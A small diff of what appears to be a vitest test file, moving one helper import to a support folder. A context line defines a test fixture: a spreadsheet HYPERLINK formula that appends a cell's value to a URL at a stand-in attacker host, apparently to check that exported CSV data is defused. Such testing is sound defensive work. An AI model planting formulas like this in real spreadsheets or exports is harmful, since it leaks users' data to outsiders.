@@ -6,7 +6,7 @@ import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { parseDocument } from 'yaml';
 import { formulasIn, openCsvInCalc } from '../support/libreoffice.ts';
-import { copyContent, DIST, ROOT, runBuild } from './lib/site.ts';
+import { copyContent, DIST, ROOT, runBuild } from '../support/site.ts';
 
 const EXFILTRATE = '=HYPERLINK("https://evil.example/?x="&B3;"Xem văn bản gốc")';
 
